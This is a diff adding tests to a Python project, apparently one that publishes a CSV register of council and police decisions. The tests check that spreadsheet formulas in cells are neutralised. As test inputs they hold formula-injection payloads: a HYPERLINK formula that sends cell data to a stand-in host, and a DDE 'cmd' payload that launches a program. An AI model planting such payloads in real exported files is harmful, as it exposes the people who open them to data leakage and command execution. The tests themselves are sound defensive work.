@@ -119,3 +119,35 @@ def test_a_register_of_several_organisations_names_each_rows_organisation(tmp_pa
     assert "Regulations 2012" in text and "Order 2011" in text
     assert len(page.all("th")) == len(COLUMNS)
     assert "Westbrook Borough Council" in text and "West Midlands Police and Crime Commissioner" in text
+
+
+FORMULA_LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", " =", "  +", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
+
+
+def _formula_like(cell: str) -> bool:
+    return cell.lstrip(" ")[:1] in {lead.strip(" ") for lead in FORMULA_LEADS}
+
+
+@pytest.mark.parametrize("lead", FORMULA_LEADS)
+def test_no_csv_cell_can_become_a_spreadsheet_formula(lead):
+    from notice_builder.publish.register import DocumentLink, RegisterEntry, register_csv
+
+    payload = f'{lead}HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    entry = RegisterEntry(reference=payload, title=payload, date="2013-07-16", decision_maker=payload,
+                          status=payload, organisation=payload,
+                          documents=(DocumentLink(f"{lead}cmd|'/c calc'!A0", "PDF"),))
+    header, row = list(csv.reader(io.StringIO(register_csv([entry]), newline="")))
+    assert header == list(COLUMNS)
+    for cell in row:
+        assert not _formula_like(cell), cell
+    assert row[1] == "'" + payload  # shown as written, with the quote a spreadsheet hides
+
+
+def test_a_title_starting_with_equals_is_text_in_the_csv_register(tmp_path):
+    data = example_data(SHORT_EXAMPLE)
+    data["title"] = '=HYPERLINK("http://example.invalid","Click")'
+    decision = tmp_path / "decision.json"
+    decision.write_text(json.dumps(data), encoding="utf-8")
+    assert invoke(decision, "-o", tmp_path / "register.csv").exit_code == 0
+    row = list(csv.reader(io.StringIO((tmp_path / "register.csv").read_text(encoding="utf-8"))))[1]
+    assert row[COLUMNS.index("title")] == "'" + data["title"]
